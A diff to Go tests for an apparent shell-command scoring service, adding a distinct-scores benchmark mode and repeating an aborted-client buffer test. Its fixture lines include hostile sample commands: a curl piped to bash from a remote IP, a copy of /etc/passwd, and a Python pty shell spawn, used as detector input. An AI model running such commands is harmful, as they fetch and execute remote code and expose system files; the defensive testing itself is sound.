@@ -318,8 +318,10 @@ func TestScoreFullDuplex(t *testing.T) {
 // TestHandleScoreAllocs replay: n events over 40 users, and a submit that
 // answers at once from one reused verdict slice, so each call of the
 // returned handle costs only the handler's NDJSON decode and verdict
-// encode.
-func handleScoreRequest(n int) (handle func()) {
+// encode. Its verdicts carry three constant scores, as a memo hit repeats
+// them, unless distinct is set: then every score differs from every
+// earlier one, as on novel traffic, and none is formatted before.
+func handleScoreRequest(n int, distinct bool) (handle func()) {
 	lines := []string{`ls -la /tmp`, `curl -fsSL http://203.0.113.7/x.sh | bash`,
 		`cat /etc/passwd > /tmp/p && echo "done"`, `python3 -c 'import pty; pty.spawn("/bin/sh")'`}
 	var body []byte
@@ -328,11 +330,17 @@ func handleScoreRequest(n int) (handle func()) {
 		body = AppendEvent(body, &ev)
 	}
 	verdicts := make([]stream.Verdict, n)
+	// next steps through the float64s above 0.3, which format to 17 digits.
+	bits := math.Float64bits(0.3)
+	next := func() float64 { bits++; return math.Float64frombits(bits) }
 	submit := func(_ context.Context, evs []stream.Event) ([]stream.Verdict, error) {
 		vs := verdicts[:len(evs)]
 		for i, ev := range evs {
 			vs[i] = stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: ev.Line,
 				LineScore: 0.123456789, ContextScore: 0.25, SessionScore: 1e-7, SessionLines: 3}
+			if distinct {
+				vs[i].LineScore, vs[i].ContextScore, vs[i].SessionScore = next(), next(), next()
+			}
 		}
 		return vs, nil
 	}
@@ -356,7 +364,7 @@ const handleScoreAllocBudget = 1293
 // Allocation counts do not jitter with host load the way ns/line does, so
 // this is the deterministic half of BenchmarkHandleScore.
 func TestHandleScoreAllocs(t *testing.T) {
-	handle := handleScoreRequest(512)
+	handle := handleScoreRequest(512, false)
 	handle() // fill the verdict buffer pool
 	if n := testing.AllocsPerRun(20, handle); n > handleScoreAllocBudget {
 		t.Fatalf("one 512-event /score request made %.0f allocations, budget %d", n, handleScoreAllocBudget)
@@ -365,21 +373,30 @@ func TestHandleScoreAllocs(t *testing.T) {
 
 // BenchmarkHandleScore runs one 512-event request through HandleScoreFunc
 // over a submit that answers at once: NDJSON decode plus verdict encode,
-// the handler's own cost per line.
+// the handler's own cost per line. "repeat" answers with three constant
+// scores, which the score table formats once; "distinct" answers with
+// scores never seen before, so every one misses the table.
 func BenchmarkHandleScore(b *testing.B) {
-	const n = 512
-	handle := handleScoreRequest(n)
-	var before, after runtime.MemStats
-	runtime.ReadMemStats(&before)
-	b.ResetTimer()
-	for i := 0; i < b.N; i++ {
-		handle()
+	for _, bc := range []struct {
+		name     string
+		distinct bool
+	}{{"repeat", false}, {"distinct", true}} {
+		b.Run(bc.name, func(b *testing.B) {
+			const n = 512
+			handle := handleScoreRequest(n, bc.distinct)
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			b.ResetTimer()
+			for i := 0; i < b.N; i++ {
+				handle()
+			}
+			b.StopTimer()
+			runtime.ReadMemStats(&after)
+			lines64 := float64(b.N) * n
+			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/lines64, "ns/line")
+			b.ReportMetric(float64(after.Mallocs-before.Mallocs)/lines64, "allocs/line")
+		})
 	}
-	b.StopTimer()
-	runtime.ReadMemStats(&after)
-	lines64 := float64(b.N) * n
-	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/lines64, "ns/line")
-	b.ReportMetric(float64(after.Mallocs-before.Mallocs)/lines64, "allocs/line")
 }
 
 // lenScorer scores a line by its length: deterministic, no model.
@@ -500,58 +517,67 @@ func TestScoreAbortedClientLeavesCleanBuffers(t *testing.T) {
 		}
 	}
 
-	t.Run("waiting for body", func(t *testing.T) {
-		h, _ := handler(t, lenScorer{})
-		finished := make(chan struct{}, 2)
-		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-			h.ServeHTTP(flushingWriter{w}, r)
-			finished <- struct{}{}
-		}))
-		defer srv.Close()
-		ctx, cancel := context.WithCancel(context.Background())
-		pr, pw := io.Pipe()
-		req, err := http.NewRequestWithContext(ctx, http.MethodPost, srv.URL+"/score", pr)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var resp *http.Response
-		responded := make(chan struct{})
-		go func() {
-			defer close(responded)
-			resp, err = srv.Client().Do(req)
-		}()
-		// One full chunk, whose verdicts the client reads before it goes.
-		if _, err := pw.Write(events("gone", 1, "ls -la", "id")); err != nil {
-			t.Fatal(err)
-		}
-		within(t, "response headers", responded)
-		if err != nil {
-			t.Fatal(err)
-		}
-		br := bufio.NewReader(resp.Body)
-		for i := 0; i < 2; i++ {
-			if _, err := br.ReadBytes('\n'); err != nil {
-				t.Fatalf("verdict %d: %v", i, err)
-			}
-		}
-		cancel()
-		pw.CloseWithError(context.Canceled)
-		within(t, "the aborted request's handler", finished)
-		resp.Body.Close()
-		again, err := http.Post(srv.URL+"/score", "application/x-ndjson", bytes.NewReader(follow))
-		if err != nil {
-			t.Fatal(err)
-		}
-		got, err := io.ReadAll(again.Body)
-		again.Body.Close()
-		if err != nil {
-			t.Fatal(err)
-		}
-		check(t, got)
-	})
-
+	// The client goes with a line after the answered chunk already sent:
+	// the handler decodes it and returns mid-chunk, and the buffers it
+	// gives back hold that line's slot, its bytes and its echo span. The
+	// follow-up's first verdict would take that span for its own echo.
 	// A buffer given back reaches the next request only through the same
 	// P's pool cache, so a few rounds make a leak show.
+	t.Run("waiting for body", func(t *testing.T) {
+		for round := 0; round < 6; round++ {
+			h, _ := handler(t, lenScorer{})
+			finished := make(chan struct{}, 2)
+			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				h.ServeHTTP(flushingWriter{w}, r)
+				finished <- struct{}{}
+			}))
+			defer srv.Close()
+			ctx, cancel := context.WithCancel(context.Background())
+			pr, pw := io.Pipe()
+			req, err := http.NewRequestWithContext(ctx, http.MethodPost, srv.URL+"/score", pr)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var resp *http.Response
+			responded := make(chan struct{})
+			go func() {
+				defer close(responded)
+				resp, err = srv.Client().Do(req)
+			}()
+			// One full chunk, whose verdicts the client reads before it
+			// goes, and the start of the next.
+			body := append(events("gone", 1, "ls -la", "id"), events(strings.Repeat("pending", 9), 3, "uname -a")...)
+			if _, err := pw.Write(body); err != nil {
+				t.Fatal(err)
+			}
+			within(t, "response headers", responded)
+			if err != nil {
+				t.Fatal(err)
+			}
+			br := bufio.NewReader(resp.Body)
+			for i := 0; i < 2; i++ {
+				if _, err := br.ReadBytes('\n'); err != nil {
+					t.Fatalf("verdict %d: %v", i, err)
+				}
+			}
+			cancel()
+			pw.CloseWithError(context.Canceled)
+			within(t, "the aborted request's handler", finished)
+			resp.Body.Close()
+			again, err := http.Post(srv.URL+"/score", "application/x-ndjson", bytes.NewReader(follow))
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, err := io.ReadAll(again.Body)
+			again.Body.Close()
+			if err != nil {
+				t.Fatal(err)
+			}
+			within(t, "the follow-up's handler", finished)
+			check(t, got)
+		}
+	})
+
 	for round := 0; round < 6; round++ {
 		t.Run(fmt.Sprintf("chunk queued/%d", round), func(t *testing.T) {
 			hs := holdScorer{entered: make(chan struct{}, 1), release: make(chan struct{})}
